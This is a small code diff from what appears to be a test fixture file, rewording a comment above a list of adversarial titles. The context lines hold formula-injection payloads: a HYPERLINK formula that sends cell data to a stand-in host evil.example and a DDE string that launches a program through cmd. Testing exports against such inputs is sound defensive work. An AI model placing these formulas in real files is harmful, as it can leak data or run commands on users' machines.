@@ -8,7 +8,7 @@ import { type FormatName, formatNames } from './formats/registry.ts';
 const MINUTE_MS = 60_000;
 const firstMs = Date.parse('2026-01-14T08:00:00Z');
 
-/** What attackers put into names, and what spreadsheets, parsers and people get wrong. */
+/** Names by attackers, and texts that spreadsheets, parsers and people get wrong. */
 const titles = [
   '=HYPERLINK("https://evil.example?"&A1,"Click")',
   "+cmd|' /C calc'!A0",
